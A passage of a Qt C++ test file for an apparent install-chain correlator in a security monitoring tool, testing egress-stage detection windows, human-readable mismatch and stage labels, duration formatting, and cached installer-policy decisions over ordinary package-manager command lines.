    // The window did change the chain: the late egress is in it now.
    QVERIFY(!byInstaller(narrow, QStringLiteral("apt-get install qwik")).hasStage(Stage::Egress));
    QVERIFY(byInstaller(wide, QStringLiteral("apt-get install qwik")).hasStage(Stage::Egress));
}

void Tst_correlator::labelsAreWordsNotKeys_data()
{
    QTest::addColumn<QString>("flag");
    for (const QString &f : {Mismatch::HostNotApproved, Mismatch::RepoNotApproved, Mismatch::UnexpectedChild,
             Mismatch::UnsignedModule, Mismatch::SignerNotApproved, Mismatch::SignerDrift, Mismatch::HashDrift,
             Mismatch::TeamIdNotAllowed, Mismatch::TapNotApproved})
        QTest::newRow(qPrintable(f)) << f;
    QTest::newRow("unknown flag") << QStringLiteral("some_new_flag");
}

void Tst_correlator::labelsAreWordsNotKeys()
{
    QFETCH(QString, flag);
    const QString label = mismatchLabel(flag);
    QVERIFY2(!label.contains(u'_'), qPrintable(label));
    QVERIFY(!label.isEmpty());
    const QString description = mismatchDescription(flag);
    QVERIFY2(!description.contains(u'_'), qPrintable(description));
    if (flag != u"some_new_flag") {
        QVERIFY2(description.endsWith(u'.'), qPrintable(description));
        QVERIFY(description.size() > label.size());
    } else {
        QCOMPARE(label, QStringLiteral("some new flag"));
    }
    for (const QString &role :
        {QStringLiteral("installer"), QStringLiteral("package"), QStringLiteral("package_source"),
            QStringLiteral("write"), QStringLiteral("first_run"), QStringLiteral("child"), QStringLiteral("module"),
            QStringLiteral("egress"), QStringLiteral("persistence")})
        QVERIFY2(!roleLabel(role).contains(u'_'), qPrintable(roleLabel(role)));
    for (Stage s : {Stage::Install, Stage::Write, Stage::FirstRun, Stage::Egress})
        QVERIFY(!stageLabel(s).contains(u'_'));
    QCOMPARE(stageLabel(Stage::FirstRun), QStringLiteral("First run"));
    QCOMPARE(triageMarkLabel(TriageMark::FollowUp), QStringLiteral("Needs follow-up"));
}

void Tst_correlator::durationLabels_data()
{
    QTest::addColumn<qint64>("us");
    QTest::addColumn<QString>("expected");
    QTest::newRow("59 s") << 59 * Second << "59 s";
    QTest::newRow("60 s") << 60 * Second << "1 min";
    QTest::newRow("59 min") << 59 * Minute << "59 min";
    QTest::newRow("60 min") << 60 * Minute << "1 h 00 min";
    QTest::newRow("3 h 2 min") << 182 * Minute << "3 h 02 min";
    QTest::newRow("47 h 59 min") << (48 * 60 - 1) * Minute << "47 h 59 min";
    QTest::newRow("48 h") << 48 * 60 * Minute << "2 days 0 h";
    QTest::newRow("12 days 3 h") << (12 * 24 + 3) * 60 * Minute << "12 days 3 h";
}

void Tst_correlator::durationLabels()
{
    QFETCH(qint64, us);
    QFETCH(QString, expected);
    QCOMPARE(durationLabel(us), expected);
}

// InstallerDecisions (the stored index's rounds share one) answers each question as
// Policy::isInstaller does, also when it was asked before about the same image with
// another command line: where the command line decides (shells, interpreters, `go`),
// it is part of the question; elsewhere it is not.
void Tst_correlator::installerDecisionsAnswerAsThePolicy()
{
    Policy policy = Policy::defaults();
    InstallerDecisions decisions(policy);
    const struct
    {
        const char *image;
        const char *commandLine;
        Platform platform;
    } asked[] = {
        {"/bin/bash", "/bin/bash -lc brew install wget", Platform::MacOS},
        {"/bin/bash", "/bin/bash /opt/homebrew/bin/brew install wget", Platform::MacOS},
        {"/bin/bash", "/bin/bash -lc brew install wget", Platform::MacOS},
        {"/usr/bin/python3", "python3 script.py", Platform::Linux},
        {"/usr/bin/python3", "python3 -m pip install requests", Platform::Linux},
        {"/usr/local/go/bin/go", "go build ./...", Platform::Linux},
        {"/usr/local/go/bin/go", "go install example.org/tool@latest", Platform::Linux},
        {"/usr/bin/apt-get", "apt-get install -y x", Platform::Linux},
        {"/usr/bin/apt-get", "", Platform::Linux},
        {"/usr/bin/curl", "curl x", Platform::Linux},
        // The same image on another platform is another question.
        {"C:\\Windows\\System32\\msiexec.exe", "", Platform::Windows},
        {"C:\\Windows\\System32\\msiexec.exe", "", Platform::Linux},
    };
    int installers = 0;
    for (const auto &a : asked) {
        const QString image = QString::fromUtf8(a.image);
        const QString commandLine = QString::fromUtf8(a.commandLine);
        const bool expected = policy.isInstaller(image, commandLine, a.platform);
        installers += expected ? 1 : 0;
        QCOMPARE(
            decisions.isInstaller(image, commandLine, a.platform, policy.installerNeedsArguments(image, a.platform)),
            expected);
    }
    // Both answers occur, for the same image too.
    QVERIFY(installers >= 4);
    QVERIFY(installers < int(std::size(asked)));
}

QTEST_GUILESS_MAIN(Tst_correlator)
#include "tst_correlator.moc"
